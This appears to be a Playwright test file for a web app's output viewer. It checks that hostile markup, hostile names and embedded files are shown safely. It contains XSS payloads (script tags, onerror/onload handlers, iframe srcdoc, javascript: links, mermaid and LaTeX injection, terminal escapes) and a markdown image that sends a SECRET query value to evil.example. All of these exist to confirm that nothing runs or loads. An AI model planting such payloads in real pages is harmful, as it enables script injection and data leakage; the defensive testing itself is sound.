"""Names and outputs that want to be more than text, or are far too much of it: the pages show them and stay usable."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest

from ..server import ServerProcess
from .agents import INPUT, OUTPUT, agent, echo, giving, link, node, run_path
from .conftest import PHONE, call

pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install playwright")
from playwright.sync_api import expect

expect.set_options(timeout=20_000)

HOSTILE = {
    "script": "<script>document.title='owned'</script>",
    "image": "<img src=x onerror=\"document.title='owned'\">",
    "svg": "<svg onload=\"document.title='owned'\"></svg>",
    "frame": "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "link": "[press](javascript:document.title='owned')",
    "markdown": "# Title\n\n**bold** <img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>",
    "diagram": "```mermaid\ngraph TD; A[<img src=x onerror=document.title='owned'>]\n```\n$$\\href{javascript:document.title='owned'}{x}$$",
    "terminal": "\x1b[31mred\x1b[0m\x1b]0;owned\x07",
}


def badge(page: Any) -> Any:
    return page.locator(".head .badge")


# --- F1, F6: what is shown is never run, and loads nothing --------------------------------------------------


def test_outputs_with_markup_are_shown_and_never_run(open_page: Any, server: ServerProcess) -> None:
    nodes, links = [], []
    for name, text in HOSTILE.items():
        given, result = node(INPUT, name=f"in {name}", value=text), node(OUTPUT, name=name)
        nodes += [given, result]
        links.append(link(given, "result", result, "value"))
    page = open_page(run_path(server, agent("Hostile", nodes, links)))
    expect(badge(page)).to_have_text("Completed")
    outputs = page.get_by_label("Outputs")
    # Those that look like letters are read as letters; markup in them is text.
    expect(outputs.locator(".markdown strong")).to_have_text("bold")
    expect(outputs.locator(".value", has_text="<svg onload")).to_be_visible()
    assert outputs.locator("script, iframe, svg[onload], [onerror], [href^=javascript]").count() == 0
    for source in outputs.get_by_role("button", name="Source").all():
        source.click()
    expect(outputs.locator(".value", has_text="<script>").first).to_be_visible()
    assert page.title() != "owned"


def test_page_of_somebody_else_is_framed_without_scripts_and_without_our_origin(browser: Any, server: ServerProcess) -> None:
    html = "<!doctype html><h1>Theirs</h1><script>parent.document.title='owned'</script><img src=//evil.example/x>"
    # Not open_page: that the frame's script is refused stands in the console as an error.
    page = browser.new_context().new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(call(server, "POST", "/api/auth/links")["url"])
    page.wait_for_selector(".agent-card")
    page.goto(server.url + run_path(server, giving("Gives a page", html)))
    outputs = page.get_by_label("Outputs")
    expect(outputs.locator(".value")).to_contain_text("<h1>Theirs</h1>")
    assert outputs.locator("iframe").count() == 0
    outputs.get_by_role("button", name="Page").click()
    frame = outputs.locator("iframe")
    assert frame.get_attribute("sandbox") == ""
    expect(frame.content_frame.get_by_role("heading", name="Theirs")).to_be_visible()
    assert page.title() != "owned"
    assert [url for url in asked if "evil.example" in url] == []
    page.context.close()


def test_f6_picture_in_a_letter_is_a_link_that_says_where_it_leads(open_page: Any, server: ServerProcess) -> None:
    own = (
        "data:image/svg+xml;base64,"
        + base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>").decode()
    )
    text = (
        "# News\n\n![chart](https://evil.example/p.png?q=SECRET) ![own](/api/executions) <img src='http://127.0.0.1:1/x'>\n\n"
        f"![dot]({own}) [web](https://ok.example/)"
    )
    # open_page fails the test where anything outside is asked for.
    page = open_page(run_path(server, giving("Letter", text)))
    letter = page.get_by_label("Outputs").locator(".markdown")
    expect(letter.get_by_role("link", name="Picture at evil.example: chart")).to_have_attribute(
        "rel", "noopener noreferrer nofollow"
    )
    assert letter.locator("img").evaluate_all("all => all.map((one) => one.alt)") == ["dot"]


def test_files_in_outputs_are_shown_and_saved_as_what_they_are(open_page: Any, server: ServerProcess) -> None:
    sound = (
        "data:audio/wav;base64,"
        + base64.b64encode(b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x40\x1f\0\0\x40\x1f\0\0\1\0\x08\0data\0\0\0\0").decode()
    )
    page = open_page(run_path(server, giving("Sounds", sound)))
    outputs = page.get_by_label("Outputs")
    expect(outputs.locator("audio")).to_be_visible()
    with page.expect_download() as download:
        outputs.get_by_role("button", name="Download Result").click()
    assert download.value.suggested_filename == "Result.wav"
    assert Path(download.value.path()).read_bytes().startswith(b"RIFF")


# --- F2, F3: names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["W" * 10_000, "\u202eevil\u2066 \u05e9\u05dc\u05d5\u05dd " * 20, "a\u200b\u200d\ufeff" * 500, "🏳️‍🌈🇺🇳" * 300, "<b>" * 300],
    ids=["10 KB", "right to left", "zero width", "flags", "markup"],
)
def test_layout_holds_with_any_name(open_page: Any, server: ServerProcess, name: str) -> None:
    short = name[:200]  # the server's own limit of an agent's name; a node and an output may have more
    graph = echo(short, name)
    path = run_path(server, graph)
    page = open_page(path, PHONE)
    expect(badge(page)).to_have_text("Completed")
    page.locator(".row").first.click()
    for address in (path, "/runs"):
        page.goto(server.url + address)
        page.locator(".facts, .run-row").first.wait_for()
        assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth"), address
        assert page.locator("#main b").count() == 0
